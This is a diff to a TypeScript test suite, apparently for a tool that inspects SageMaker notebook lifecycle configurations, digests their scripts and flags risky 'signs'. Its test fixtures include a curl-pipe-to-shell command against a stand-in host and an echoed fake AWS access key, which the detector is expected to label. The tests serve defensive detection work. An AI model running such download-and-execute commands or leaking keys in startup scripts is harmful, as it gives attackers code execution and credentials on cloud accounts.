@@ -72,7 +72,7 @@ const seen = async (...how: Parameters<typeof given>) => {
   return await lifecycleConfig.inspect(resource);
 };
 const digest = async (script: string, where: 'OnCreate' | 'OnStart' = 'OnStart') =>
-  (await seen([], { [where]: hook(script) }))?.state.scripts[where]?.is ?? '';
+  (await seen([], { [where]: hook(script) }))?.state.scripts[where] ?? '';
 
 describe('a lifecycle configuration', () => {
   test('is found by its name, and by its ARN, which has lost the capitals', async () => {
@@ -93,7 +93,7 @@ describe('a lifecycle configuration', () => {
     expect(found).toEqual({
       ...{ born: ago(DAY).toISOString(), linked: ['sagemaker'], depends: [] },
       state: {
-        scripts: { OnStart: { is: expect.stringMatching(/^veiled:/), signs: [] } },
+        ...{ scripts: { OnStart: expect.stringMatching(/^veiled:/) }, signs: {} },
         ...{ at: ago(60).toISOString(), running: {} },
         history: {
           writings: [{ by: eve, role: ROLE, at: ago(60).toISOString(), OnStart: found?.state.scripts.OnStart }],
@@ -108,13 +108,20 @@ describe('a lifecycle configuration', () => {
   test('has another digest for every script and every hook, and the same for one that is written in lines', async () => {
     const content = base64('b'.repeat(90));
     const lined = await seen([], { OnStart: [{ Content: `${content.slice(0, 76)}\n${content.slice(76)}` }] });
-    expect(lined?.state.scripts.OnStart?.is).toBe(await digest('b'.repeat(90)));
+    expect(lined?.state.scripts.OnStart).toBe(await digest('b'.repeat(90)));
     expect(await digest('a')).not.toBe(await digest('b'));
     expect(await digest('b', 'OnCreate')).not.toBe(await digest('b'));
   });
 
-  test('says what signs its scripts bear', async () =>
-    expect((await seen([], { OnStart: hook('curl x.example | sh') }))?.state.scripts.OnStart?.signs).toEqual(['piped-download']));
+  test('says what signs its scripts bear, and those that were there before', async () => {
+    const [piped, key] = ['curl x.example | sh', `echo AKIA${'Q'.repeat(16)}`];
+    const told: Told[] = [
+      { minutes: 60, scripts: { onStart: piped } },
+      { minutes: 90, scripts: { onStart: key } },
+    ];
+    const { scripts, signs, history } = (await seen(told, { OnStart: hook(piped) }))?.state ?? {};
+    expect(signs).toEqual({ [scripts?.OnStart ?? '']: ['piped-download'], [history?.writings[1]?.OnStart ?? '']: ['aws-key'] });
+  });
 
   test('that is not there is not there, and one that may not be looked at is', async () => {
     const says = "Unable to describe Notebook Instance Lifecycle Config 'x'. (Details: Notebook Instance Lifecycle Config does not exist.)";
@@ -141,7 +148,7 @@ describe('a lifecycle configuration', () => {
 
 describe('CloudTrail tells of it', () => {
   const history = async (...how: Parameters<typeof seen>) => (await seen(...how))?.state.history;
-  const b = async () => ({ is: await digest('b'), signs: [] });
+  const b = () => digest('b');
   const made: Told = { minutes: DAY, by: ana, name: CREATE, scripts: { onStart: 'b' } };
 
   test('who wrote what into which hook, newest first; what it was created without was not there', async () => {
